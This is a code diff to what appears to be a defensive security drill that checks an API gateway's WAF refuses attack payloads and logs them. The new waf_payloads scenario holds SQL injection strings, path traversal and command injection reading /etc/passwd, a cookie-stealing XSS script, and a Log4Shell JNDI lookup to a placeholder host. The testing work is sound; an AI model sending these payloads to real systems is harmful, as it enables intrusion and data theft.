@@ -149,6 +149,31 @@ class Drill:
         s.detail = f"{refused}/{len(forgeries)} refused with 401: {', '.join(forgeries)}"
         return s
 
+    async def waf_payloads(self) -> Scenario:
+        """Classic payloads in the URL and in bodies are blocked by the WAF at the gateway."""
+        s = Scenario("WAF payloads")
+        token = self.token("drill-waf", ["accounts:write", "payments:write"])
+        attempts = [
+            ("GET", "/v1/customers/x?id=1%27%20OR%20%271%27%3D%271", None),
+            ("GET", "/v1/customers/x?file=..%2F..%2F..%2Fetc%2Fpasswd", None),
+            ("GET", "/v1/customers/x?cmd=%3Bcat%20%2Fetc%2Fpasswd", None),
+            ("POST", "/v1/customers", {"name": "<script>alert(document.cookie)</script>"}),
+            ("POST", "/v1/customers", {"name": "x' UNION SELECT password FROM users--"}),
+            ("POST", "/v1/transfers", {"narration": "${jndi:ldap://203.0.113.5/a}"}),
+        ]
+        since = time.time()
+        refused, ids = 0, []
+        for method, path, body in attempts:
+            r = await self.gateway(method, path, token=token, json=body)
+            ids.append(r.headers.get("x-request-id", ""))
+            refused += r.status_code == 403
+        s.correlation_ids = ids
+        s.events = await self.wait_events(len(attempts), types={"waf.blocked"}, since=since,
+                                          correlation_ids=set(ids))  # fmt: skip
+        s.blocked = refused == len(attempts) and len(s.events) >= len(attempts)
+        s.detail = f"{refused}/{len(attempts)} payloads refused with 403"
+        return s
+
     async def rate_limit_flood(self) -> Scenario:
         """A flood on a rate-limited route is cut off with 429s."""
         s = Scenario("rate-limit flood")
@@ -190,12 +215,21 @@ class Drill:
         for url in targets:
             r = await self.gateway("POST", "/v1/webhooks", token=token, json={"url": url})
             ids.append(r.headers.get("x-request-id", ""))
-            refused += r.status_code == 422
+            # Two layers: the WAF at the gateway (403) or, behind it, the egress guard (422).
+            refused += r.status_code in (403, 422)
         s.correlation_ids = ids
-        s.events = await self.wait_events(len(targets), types={"egress.blocked"}, since=since,
-                                          correlation_ids=set(ids))  # fmt: skip
+        s.events = await self.wait_events(
+            len(targets), types={"egress.blocked", "waf.blocked"}, since=since,
+            correlation_ids=set(ids),
+        )  # fmt: skip
         s.blocked = refused == len(targets) and len(s.events) >= len(targets)
-        s.detail = f"{refused}/{len(targets)} webhook URLs refused"
+        by_layer = {
+            t: sum(e["type"] == t for e in s.events) for t in ("waf.blocked", "egress.blocked")
+        }
+        s.detail = (
+            f"{refused}/{len(targets)} webhook URLs refused "
+            f"(WAF {by_layer['waf.blocked']}, egress guard {by_layer['egress.blocked']})"
+        )
         return s
 
     async def compromised_statements(self) -> Scenario:
@@ -282,6 +316,7 @@ class Drill:
             self.ssrf_through_webhooks,
             self.compromised_statements,
             self.bypass_gateway,
+            self.waf_payloads,
             self.rate_limit_flood,
             self.audit_tampering,
         ]
